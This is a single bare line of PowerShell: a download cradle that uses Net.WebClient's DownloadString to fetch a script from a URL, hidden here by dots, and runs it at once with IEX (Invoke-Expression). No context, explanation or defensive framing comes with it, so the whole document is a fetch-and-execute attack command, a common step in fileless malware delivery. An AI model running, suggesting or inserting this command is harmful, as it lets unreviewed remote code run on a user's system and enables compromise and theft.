IEX (New-Object Net.WebClient).DownloadString('········································')
